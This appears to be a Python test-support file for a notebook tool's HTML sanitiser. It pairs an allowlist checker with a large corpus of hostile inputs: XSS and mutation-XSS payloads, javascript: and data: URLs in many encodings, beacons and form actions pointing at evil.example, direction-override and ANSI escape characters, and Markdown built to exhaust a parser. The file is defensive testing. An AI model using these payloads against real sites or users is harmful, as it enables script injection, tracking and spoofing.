"""Hostile texts of models and tools, and the check that their HTML is harmless.

Display tests use `CORPUS`; `check_is_harmless` must accept all of their HTML.
"""

from __future__ import annotations

import re
from functools import cache
from html import unescape
from html.parser import HTMLParser
from typing import NamedTuple
from urllib.parse import unquote

from property_settings import size

from agentnb.display.css import NO_FORMULAS, inline_css


def _words(text: str) -> frozenset[str]:
    return frozenset(text.split())


ELEMENTS = _words(
    "a b blockquote br button code details div em fieldset figcaption figure form h2 h3 h4 hr img input label li "
    "legend main ol option p pre s section select span strong summary table tbody td textarea th thead tr ul"
)
"""Elements that agentnb generates, apart from formulas."""
FORMULA = _words(
    "math mrow mi mn mo mtext mspace mfrac msqrt mroot msub msup msubsup munder mover munderover mtable mtr mtd mstyle mpadded "
    "mphantom"
)
_FORMULA_VALUES = {
    **dict.fromkeys(["stretchy", "fence", "separator", "movablelimits", "largeop", "accent", "displaystyle"], "true|false"),
    **dict.fromkeys(["lspace", "rspace", "minsize", "maxsize", "width"], r"-?[0-3](\.\d{1,3})?em|0"),
    **{"height": "0", "depth": "0", "linethickness": "0", "scriptlevel": "[012]", "mathvariant": "normal"},
    **{"display": "block|inline", "form": "prefix|infix|postfix"},
}
"""Allowed elements of formulas; none reaches outside its box."""
ATTRIBUTES = _words(
    "align alt autocomplete checked class colspan disabled draggable for hidden href id inputmode maxlength name novalidate "
    "open placeholder readonly rel role rows rowspan scope selected spellcheck src start style tabindex target title type value"
)
"""Attributes that agentnb generates, apart from ``data-`` and ``aria-``."""
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""Terminal escapes, direction marks and surrogates."""
_ANCHOR = re.compile(r"agentnb-[A-Za-z0-9]+-(finding-)?\d+")
"""Id of a round or a finding, the target of links in the card."""
_OWN_CLASS = re.compile(r"agentnb-[\w-]+( agentnb-[\w-]+)*")
_LINK = re.compile(r"(https?://|mailto:)[^\s<>\"]+", re.IGNORECASE)
_PICTURE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+")
_PACKED = re.compile("[A-Za-z0-9+/=]+")
"""The packed log of a page; browsers ignore it."""
_VOID = frozenset(["br", "hr", "img", "input", "meta"])
_DOCUMENT = frozenset(["html", "head", "body", "meta", "title", "style"])


class Harmful(AssertionError):
    """HTML that could act or break out of its place."""


class Hostile(NamedTuple):
    """A text, and the markup that its HTML must not contain. Its words are shown."""

    name: str
    text: str
    never: tuple[str, ...] = ()


def check_is_harmless(html: str, *, document: bool = False) -> None:
    """Raise `Harmful` unless this HTML only shows text, links to the web and folds.

    ``document``: a whole page, with its own head and style sheet.
    """
    if steering := STEERING.search(html):
        raise Harmful(f"a character that steers: {steering.group()!a} at {steering.start()}")
    reader = _Reader(document)
    reader.feed(html)
    reader.close()
    if reader.open:
        raise Harmful(f"never closed: {reader.open}")


def visible_text(html: str) -> str:
    """Return the text without markup, each run of whitespace as one blank."""
    return " ".join(unescape(re.sub(r"<[^>]*>", "", html)).split())


class _Reader(HTMLParser):
    def __init__(self, document: bool) -> None:
        super().__init__()
        self.document = document
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.document and (tag, attrs) == ("template", [("id", "agentnb-log")]):
            self.open.append(tag)
            return
        if tag not in ELEMENTS | FORMULA and not (self.document and tag in _DOCUMENT):
            raise Harmful(f"an element that is not ours: <{tag}>")
        if (tag in FORMULA - {"math"}) != ("math" in self.open):
            raise Harmful(f"<{tag}> in {self.open}: a formula holds elements of formulas only, and nothing else has them")
        if len({name for name, _ in attrs}) < len(attrs):
            raise Harmful(f"an attribute twice: {attrs}")
        attributes = {name: value or "" for name, value in attrs}
        for name, value in attributes.items():
            _check_attribute(tag, name, value, attributes.get("class", ""))
        if tag not in _VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            raise Harmful(f"closed but not open here: </{tag}>")

    def handle_data(self, data: str) -> None:
        if self.open[-1:] == ["template"] and not _PACKED.fullmatch(data):
            raise Harmful(f"text within the log of a page: {data[:80]!a}")
        if STEERING.search(data):
            raise Harmful(f"a character that steers, written as an entity: {data[:80]!a}")

    def handle_comment(self, data: str) -> None:
        raise Harmful(f"a comment: {data[:80]}")

    def handle_decl(self, decl: str) -> None:
        if not (self.document and decl.lower() == "doctype html"):
            raise Harmful(f"a declaration: {decl[:80]}")

    def unknown_decl(self, data: str) -> None:
        raise Harmful(f"a declaration: {data[:80]}")

    def handle_pi(self, data: str) -> None:
        raise Harmful(f"an instruction: {data[:80]}")


def _check_attribute(tag: str, name: str, value: str, classes: str) -> None:
    if STEERING.search(value):
        raise Harmful(f"a character that steers, in {name}: {value[:80]!a}")
    if name.startswith(("data-", "aria-")) and re.fullmatch(r"[a-z-]+", name):
        return
    if tag in FORMULA and name not in ("class", "style"):
        if name not in _FORMULA_VALUES or not re.fullmatch(_FORMULA_VALUES[name], value):
            raise Harmful(f"an attribute that no formula has: {name}={value[:80]!r} of <{tag}>")
        return
    if name == "http-equiv" and value != "Content-Security-Policy":
        raise Harmful(f"an instruction to the browser: {value[:80]}")
    if (
        name not in ATTRIBUTES
        and not (tag == "meta" and name in ("charset", "content", "http-equiv"))
        and not (tag == "html" and name == "lang")
    ):
        raise Harmful(f"an attribute that is not ours: {name}={value[:80]!r} of <{tag}>")
    allowed = {
        "class": lambda: _OWN_CLASS.fullmatch(value) or value == NO_FORMULAS,
        "id": lambda: _ANCHOR.fullmatch(value),
        "style": lambda: _is_style_of(classes, value),
        "href": lambda: tag == "a" and (_LINK.fullmatch(value) or (value[:1] == "#" and _ANCHOR.fullmatch(unquote(value[1:])))),
        "src": lambda: tag == "img" and _PICTURE.fullmatch(value),
        "target": lambda: value == "_blank",
        "rel": lambda: "noopener" in value.split(),
    }.get(name)
    if allowed is not None and not allowed():
        raise Harmful(f"{name}={value[:120]!r} of <{tag}>")


@cache
def _is_style_of(classes: str, style: str) -> bool:
    return f' style="{style}"' in inline_css(f'<i class="{classes}"></i>')


SCRIPTS = [
    Hostile("a script", "<script>alert(1)</script>", ("<script",)),
    Hostile("a script in capitals, never closed", "<SCRIPT SRC=//evil.example/x.js", ("<SCRIPT",)),
    Hostile("a script within a script", "<scr<script>ipt>alert(1)</scr</script>ipt>", ("<script", "<scr")),
    Hostile("a script after a slash", "<script/x>alert(1)</script\n>", ("<script",)),
    Hostile("a handler of a picture", '<img src=x onerror="alert(1)">', ("<img",)),
    Hostile("a handler with slashes for blanks", "<img/src/onerror=alert(1)//>", ("<img",)),
    Hostile(
        "a handler of details", "<details open ontoggle=alert(1)><summary>x</summary></details>", ("<details open ontoggle",)
    ),
    Hostile("a handler of an input", "<input autofocus onfocus=alert(1)>", ("<input autofocus",)),
    Hostile("an unclosed tag", "before <img src=x onerror=alert(1) after", ("<img",)),
    Hostile("a handler in a Markdown title", '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")'),
    Hostile("a handler in the language of a fence", '```py" onclick="alert(1)\nx = 1\n```'),
    Hostile("a script in a fence", "```html\n</code></pre><script>alert(1)</script>\n```", ("<script",)),
    Hostile("a script in a table", "| a |\n|---|\n| <script>alert(1)</script> |\n", ("<script",)),
    Hostile("a script in a heading", "# <script>alert(1)</script>\n\n<b>x</b>\n===", ("<script",)),
]
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61script:alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "j\u0430vascript:alert(1)",
    "javascript://%0aalert(1)",
    "%6aavascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://a.example/1",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/api/shutdown",
)


def links_to(address: str) -> tuple[str, ...]:
    """Return the address in every Markdown link form, and as HTML."""
    return (
        f"[x]({address})",
        f"[x](<{address}>)",
        f"<{address}>",
        f"[x][r]\n\n[r]: {address}",
        f'<a href="{address}">x</a>',
        f"![x]({address})",
    )


LINKS = [
    Hostile(
        f"a link to {ascii(address)[1:60]}",
        text,
        tuple(f'<a href="{start}' for start in ("j", "v", "data", "file", "/", "\\", "&", "%", "\u00a0")),
    )
    for address in ADDRESSES
    for text in links_to(address)
]
BREAKS = [
    Hostile("the end of the style", "</style><img src=x onerror=alert(1)>", ("</style><", "<img")),
    Hostile("a style", "<style>*{display:none}</style>", ("<style",)),
    Hostile("a style attribute", '<div style="position:fixed;inset:0;background:url(//evil.example)">x</div>'),
    Hostile("an old style expression", '<p style="width:expression(alert(1))">x</p>'),
    Hostile(
        "the ends of all that may be open", "</pre></code></td></tr></table></div></details></span>x", ("</details></span>x",)
    ),
    Hostile("the ends in a fence", "```\n</code></pre></div></details>\n```", ("</div></details>\n",)),
    Hostile("the end of a text field", "</textarea><script>alert(1)</script>", ("</textarea><script",)),
    Hostile("the end of the title", "</title><script>alert(1)</script>", ("</title><script",)),
    Hostile("the end of a script", "</script><script>alert(1)</script>", ("</script><script",)),
    Hostile("double quotes", '" autofocus onfocus="alert(1)'),
    Hostile("single quotes", "' autofocus onfocus='alert(1)"),
    Hostile("backticks", "`` ` onmouseover=alert(1) ` ``"),
    Hostile("an attribute break in a link", '[x](https://a.example/"onclick="alert(1))'),
    Hostile("an attribute break in a picture", '![" onerror="alert(1)](https://a.example/x.png)', ("<img",)),
    Hostile("a comment", "<!--><script>alert(1)</script-->", ("<!--", "<script")),
    Hostile("a comment that ends oddly", "<!-- --!><img src=x onerror=alert(1)> -->", ("<!--", "<img")),
    Hostile("CDATA", "<![CDATA[<script>alert(1)</script>]]>", ("<![CDATA", "<script")),
    Hostile("an instruction", "<?xml version='1.0'?><?php x ?>", ("<?",)),
    Hostile("a doctype", "<!DOCTYPE html><html><body onload=alert(1)>", ("<!DOCTYPE html><html><body onload",)),
    Hostile("templates of frameworks", "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>", ("<%",)),
    Hostile("a class of JupyterLab", '<button class="jp-Button" data-commandlinker-command="x">x</button>'),
]
FOREIGN = [
    Hostile("SVG", "<svg onload=alert(1)><script>alert(1)</script></svg>", ("<svg", "<script")),
    Hostile("SVG with an animation", "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>", ("<svg",)),
    Hostile(
        "SVG with a foreign object", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", ("<svg", "<foreign")
    ),
    Hostile("MathML", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", ("<math",)),
    Hostile("a frame", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", ("<iframe",)),
    Hostile("an object", "<object data=javascript:alert(1)></object><embed src=//evil.example>", ("<object", "<embed")),
    Hostile("a base", "<base href=//evil.example/>", ("<base",)),
    Hostile("a meta refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">', ("<meta http",)),
    Hostile(
        "a form", "<form action=//evil.example><input name=key><button formaction=javascript:alert(1)>x", ("<form action",)
    ),
    Hostile("a style sheet from elsewhere", "<link rel=stylesheet href=//evil.example/x.css>", ("<link",)),
    Hostile("video and audio", "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>", ("<video", "<audio")),
    Hostile("mXSS by noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', ("<noscript", "<img")),
    Hostile("mXSS by template", "<template><style></template><img src=x onerror=alert(1)>", ("<template", "<img")),
    Hostile(
        "mXSS by MathML",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        ("<math",),
    ),
    Hostile("mXSS by SVG", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', ("<svg", "<img")),
    Hostile(
        "mXSS by form", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", ("<math", "<img")
    ),
    Hostile(
        "mXSS by xmp and listing",
        "<xmp><img src=x onerror=alert(1)></xmp><listing>&lt;img src=x&gt;</listing><plaintext>",
        ("<xmp", "<img"),
    ),
    Hostile(
        "mXSS by select",
        "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
        ("<select",),
    ),
]
MARKDOWN = [
    Hostile("a picture that tells who looked", "![](https://evil.example/beacon.png?who=me)", ("<img",)),
    Hostile("a picture by reference", "![x][b]\n\n[b]: https://evil.example/beacon.png", ("<img",)),
    Hostile("a picture as a link", "[![x](https://evil.example/b.png)](https://a.example)", ("<img",)),
    Hostile(
        "autolinks",
        "<https://a.example> <me@a.example> <javascript:alert(1)> https://a.example/?a=1&b=2",
        ('<a href="javascript',),
    ),
    Hostile(
        "HTML in Markdown in HTML",
        "<div>\n\n**x** <b onclick=alert(1)>y</b>\n\n[z](https://a.example)\n\n</div>",
        ("<b onclick",),
    ),
    Hostile("Markdown around HTML", "*<i onclick=alert(1)>*</i> `<b>` **</div>**", ("<i onclick", "</div></strong>")),
    Hostile("a link whose words are tags", "[<img src=x onerror=alert(1)>](https://a.example)", ("<img",)),
    Hostile(
        "entities that are tags",
        "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
        ("<script", "<img"),
    ),
    Hostile("entities of entities", "&amp;lt;script&amp;gt; &ampscript; &#0; &#xD800; &#x110000; &#9999999;", ("<script",)),
    Hostile("entities that steer", "a &#x202e;b&#x2066;c &#27;[31m &#x9b;31m &#x85; d"),
    Hostile("an address that steers", "<https://a.example/%E2%80%AE%1B> [x](https://a.example/\u202e)"),
    Hostile("escapes", "\\<script\\>alert(1)\\</script\\> \\[x](javascript:alert(1))", ("<script",)),
    Hostile(
        "formulas that are links",
        "$\\href{javascript:alert(1)}{x}$ \\(\\href{javascript:alert(1)}{x}\\) $$\\href{//evil.example}{y}$$",
    ),
    Hostile(
        "formulas that are styles",
        "$\\style{position:fixed;inset:0}{x} \\class{jp-Button}{y} \\cssId{main}{z}$ \\(\\require{html}\\)",
    ),
    Hostile("formulas that define", "$\\def\\a{\\a\\a}\\a \\newcommand{\\frac}[2]{boo}$ $\\unicode{x3C}script$ $5 and $6"),
    Hostile("a heading of the notebook's rank", "# One\n\nTwo\n===\n\n###### Three", ("<h1", "<h2", "<h6")),
    Hostile("a table with too few cells", "|a" * 100 + "\n" + "|-" * 100 + "\n" + "a\n" * 100),
    Hostile("a reference used very often", f"[a]: https://a.example/{'x' * 900}\n\n" + "[a]" * 20_000),
    Hostile("nested pictures", "![a" * 400 + "](b)" * 400, ("<img",)),
]
CHARACTERS = [
    Hostile("control characters", "".join(map(chr, range(32))) + "\x7f" + "".join(map(chr, range(0x80, 0xA0))) + "end"),
    Hostile("null bytes", "<scr\x00ipt>alert(1)</scr\x00ipt> \x00", ("<script", "<scr")),
    Hostile("ANSI escapes", "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b2J \x1b[2J"),
    Hostile("direction overrides", "pass \u202egnp.exe\u202c \u202d\u202a\u202bx"),
    Hostile("direction isolates", "if \u2066admin\u2069 \u2067x \u2068y"),
    Hostile("zero width", "java\u200bscript \u200c\u200d\u2060\ufeff a\u00adb"),
    Hostile("towers of accents", "Z" + "\u0310\u0337\u0335" * 2_000 + "algo"),
    Hostile("halves of characters", "a\ud83d b\ude00 \ud83d\ude00 \udcff [x](https://a.example/\ud800)"),
    Hostile("blanks that are none", "\u00a0x\u00a0\u2003\u3000 y\u2028z\u2029 \u0085"),
    Hostile("emoji", "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇩🇪 ☠︎"),
    Hostile("lines ended in many ways", "a\r\nb\rc\n\rd\x0be\x0cf"),
    Hostile("letters of two scripts", "\u0430dmin p\u0430yp\u0430l [p\u0430ypal.com](https://p\u0430ypal.example)"),
    Hostile("non-characters", "\ufffe\uffff\U0001fffe \U000e0001\U000e0041 \uf8ff"),
]
HUGE = [
    Hostile("a megabyte of words", "lorem ipsum " * 87_400),
    Hostile("a megabyte of tags", "<b onclick=alert(1)>" * 52_500, ("<b onclick",)),
    Hostile("one very long word", "a" * 100_000),
    Hostile("one very long word of wide letters", "漢" * 100_000),
    Hostile("5,000 quotes", "> " * 5_000 + "x"),
    Hostile("5,000 lists", "- " * 5_000 + "x"),
    Hostile("lists by indenting", "\n".join("  " * depth + "- x" for depth in range(300))),
    Hostile("many emphases", "*a **b " * size(1_000, nightly=2_500) + "c** d* " * size(1_000, nightly=2_500)),
    Hostile("5,000 tags", "<div>" * 5_000 + "x", ("<div><div><div>",)),
    Hostile("10,000 backticks", "`" * 10_000),
    Hostile("backticks of all lengths", " ".join("`" * count for count in range(1, 300))),
    Hostile("10,000 open brackets", "[" * 10_000),
    Hostile("brackets in brackets", "[[]" * size(3_333, nightly=33_333)),
    Hostile("10,000 closed brackets", "]" * 10_000),
    Hostile("open links", "[a](" * 10_000),
    Hostile("open pictures", "![](a" * size(4_000, nightly=20_000), ("<img",)),
    Hostile("open tags", "<" * size(5_000, nightly=50_000) + ">" * size(5_000, nightly=50_000)),
    Hostile("asterisks", "a**b*c_d~~e" * size(1_000, nightly=3_000)),
    Hostile("formulas that never end", "\\\\(" * 10_000 + "$a $$ " * 10_000),
    Hostile("fences that never end", "```\nx\n~~~\n" * size(500, nightly=5_000)),
    Hostile("many lines", "a\n" * size(2_000, nightly=15_000)),
    Hostile("many definitions", "[a]: b\n" * size(2_000, nightly=14_000)),
    Hostile("a table of many rows", "|a|b|\n|-|-|\n" + "|1|2|\n" * size(500, nightly=3_000)),
]
CORPUS: list[Hostile] = [*SCRIPTS, *LINKS, *BREAKS, *FOREIGN, *MARKDOWN, *CHARACTERS, *HUGE]
"""All hostile texts. Each of `HUGE` takes a fraction of a second as Markdown."""
HARMFUL_HTML = [
    "<script>x</script>",
    "<p onclick=x>y</p>",
    "<p OnClick='x'>y</p>",
    '<p style="color:red">y</p>',
    '<div class="agentnb-md" style="position:fixed">y</div>',
    '<div class="jp-Button">y</div>',
    '<a href="javascript:x">y</a>',
    '<a href=" javascript:x">y</a>',
    '<a href="java&#10;script:x">y</a>',
    '<a href="//x">y</a>',
    '<a href="/x">y</a>',
    '<a href="data:text/html,x">y</a>',
    '<a href="https://x" target="_self">y</a>',
    '<a href="https://x" rel="opener">y</a>',
    '<img src="https://x/y.png">',
    '<img src="data:image/svg+xml,x">',
    '<img src="data:image/svg+xml;base64,eA==">',
    '<img srcset="x">',
    "<svg></svg>",
    "<math href='https://x'></math>",
    "<math><mi href='https://x'>x</mi></math>",
    "<math><maction>x</maction></math>",
    "<math><annotation-xml></annotation-xml></math>",
    "<math><mtext><b>x</b></mtext></math>",
    '<math><mspace width="-90em"></mspace></math>',
    '<math><mi style="position:fixed">x</mi></math>',
    "<p><mi>x</mi></p>",
    "<iframe></iframe>",
    "<style>x</style>",
    "<form action=x></form>",
    "<button formaction=x>y</button>",
    '<p id="x">y</p>',
    "<!-- x -->",
    "<!doctype html>",
    "<?x?>",
    "<![CDATA[x]]>",
    "</div>",
    "<div>",
    "<b><i>x</b></i>",
    "<p>a\u202eb</p>",
    "<p>a&#x202e;b</p>",
    '<p title="a&#x2066;b">c</p>',
    "<p>\x1b[31m</p>",
    "<p>\x00</p>",
    "<p>\ud83d</p>",
    "<h1>x</h1>",
    "<details open ontoggle=x></details>",
    "<xmp></xmp>",
    "<custom-element></custom-element>",
]
"""HTML that `check_is_harmless` must reject."""
